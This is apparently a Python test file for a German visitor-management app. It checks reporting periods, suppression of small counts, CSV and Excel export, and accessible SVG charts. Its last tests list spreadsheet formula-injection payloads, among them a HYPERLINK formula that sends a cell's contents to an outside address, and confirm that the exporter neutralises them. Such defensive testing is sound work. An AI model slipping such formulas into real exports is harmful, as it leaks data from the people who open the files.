import csv
import io
from datetime import date

import pytest
from django.utils import translation
from openpyxl import load_workbook

from willkommen.controlling import periods
from willkommen.controlling.charts import Series, bar_chart
from willkommen.controlling.export import Table, to_csv, to_xlsx
from willkommen.core import disclosure


def test_previous_month_crosses_the_year():
    january = periods.month(2026, 1)
    assert january.previous() == periods.month(2025, 12)
    assert periods.month(2026, 3).previous().days == 28


def test_week_and_range_periods():
    week = periods.week_of(date(2026, 11, 19))  # a Thursday
    assert (week.start, week.end) == (date(2026, 11, 16), date(2026, 11, 22))
    assert week.previous().start == date(2026, 11, 9)
    custom = periods.Period(date(2026, 1, 10), date(2026, 1, 19), "range")
    assert custom.previous() == periods.Period(date(2025, 12, 31), date(2026, 1, 9), "range")


def test_labels_follow_the_language():
    with translation.override("de"):
        assert periods.month(2026, 10).label() == "Oktober 2026"
    with translation.override("en"):
        assert periods.month(2026, 10).label() == "October 2026"


@pytest.mark.parametrize("text", ["2026-13", "oktober", "2026/10", "1999-01", ""])
def test_bad_months_are_refused(text):
    with pytest.raises(periods.PeriodError):
        periods.parse_month(text)


def test_end_before_start_and_overlong_periods_are_refused():
    with pytest.raises(periods.PeriodError):
        periods.Period(date(2026, 2, 1), date(2026, 1, 1), "range")
    with pytest.raises(periods.PeriodError):
        periods.Period(date(2020, 1, 1), date(2026, 1, 1), "range")


@pytest.mark.parametrize(
    ("value", "shown"), [(0, "0"), (1, "< 5"), (4, "< 5"), (5, "5"), (1325, "1325")]
)
def test_small_counts_are_suppressed_but_zero_is_shown(value, shown):
    assert str(disclosure.count(value)) == shown


def test_figures_from_few_records_are_suppressed_too():
    assert disclosure.derived(12.5, based_on=4).suppressed
    assert disclosure.derived(12.5, based_on=5).value == 12.5


# The seed's month: 1,325 visits and 1,569 work items, with the breakdown beside them.
BREAKDOWN = ["Bedient", "An der Rezeption erledigt", "Unbedient gegangen", "Noch wartend"]
OCTOBER = ["Oktober", 1325, 1569, 0.5, 1010, 241, 74, 0]
TABLES = [
    Table("Vorsprachen", ["Monat", "Personen", "Vorgänge", "Anteil", *BREAKDOWN], [OCTOBER]),
    Table("Wartezeit", ["Art", "Median"], [["Termin", 4.5], ["ohne Termin", None]], note="Minuten"),
]


def test_csv_opens_in_a_german_spreadsheet():
    data = to_csv(TABLES)
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert "Monat;Personen;Vorgänge;Anteil;Bedient;" in text
    assert "Oktober;1325;1569;0,5;1010;241;74;0" in text
    assert "ohne Termin;" in text


def test_xlsx_has_one_sheet_per_table_with_numbers_as_numbers():
    workbook = load_workbook(io.BytesIO(to_xlsx(TABLES)))
    assert workbook.sheetnames == ["Vorsprachen", "Wartezeit"]
    rows = list(workbook["Vorsprachen"].values)
    assert rows[0] == ("Monat", "Personen", "Vorgänge", "Anteil", *BREAKDOWN)
    assert rows[1] == ("Oktober", 1325, 1569, 0.5, 1010, 241, 74, 0)
    assert sum(rows[1][4:]) == rows[1][1]  # the breakdown adds up to the visits


def test_bar_chart_is_described_for_screen_readers_and_escapes_text():
    svg = bar_chart(
        "Visits <and> work items",
        ["Mo", "Di"],
        [Series("Personen", [10, 20]), Series("Vorgänge", [12, 30])],
    )
    assert svg.startswith("<svg") and 'role="img"' in svg
    assert "Visits &lt;and&gt; work items" in svg
    assert "Mo: 10 / 12" in svg and "Di: 20 / 30" in svg
    assert svg.count("<rect") == 4 + 2  # bars + legend
    assert bar_chart("empty", [], []) == ""


HOSTILE = ['=HYPERLINK("http://example.org/?"&A1,"Klick")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]


def hostile_tables():
    return [Table("=Titel", ["=Spalte", "Wert"], [[text, -12.5] for text in HOSTILE], note="@x")]


def test_csv_cells_that_start_like_a_formula_are_text():
    text = to_csv(hostile_tables()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["'=Titel"] and rows[1] == ["'=Spalte", "Wert"] and rows[-1] == ["'@x"]
    assert rows[2:-1] == [[f"'{hostile}", "-12,5"] for hostile in HOSTILE]  # numbers stay


def test_xlsx_cells_that_start_like_a_formula_are_text():
    workbook = load_workbook(io.BytesIO(to_xlsx(hostile_tables())))
    sheet = workbook.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    labels = [row[0] for row in sheet.iter_rows(min_row=2, max_row=6, values_only=True)]
    assert labels == [f"'{hostile}" for hostile in HOSTILE]
    assert sheet["B2"].value == -12.5
